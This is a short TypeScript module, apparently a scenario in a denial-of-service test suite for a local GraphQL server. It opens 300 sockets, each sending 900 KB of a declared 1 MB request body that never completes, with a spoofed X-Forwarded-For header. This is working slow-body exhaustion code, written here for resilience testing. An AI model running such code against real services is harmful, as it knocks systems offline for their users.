import { addresses, type Attack } from '../attack.js';
import { holdSockets } from '../hold-sockets.js';

const fullSockets = 300;
const bodyBytes = 1_000_000;
/** The part of the body that is sent at once, to occupy memory; the rest never comes. */
const sentBytes = 900_000;

const beginning = [
  'POST /graphql HTTP/1.1',
  'Host: localhost',
  'Content-Type: application/json',
  `Content-Length: ${bodyBytes}`,
  `X-Forwarded-For: ${addresses.attacker()}`,
  '',
  `{"query":"{ denmark { id } }","variables":{"padding":"${'x'.repeat(sentBytes)}`,
].join('\r\n');

/** Sockets that send most of a large body, and never its end. */
export const slowBodies: Attack = {
  name: `${fullSockets} large bodies that do not end`,
  play: (field) => holdSockets(field, fullSockets, (socket) => socket.resume().write(beginning)),
};
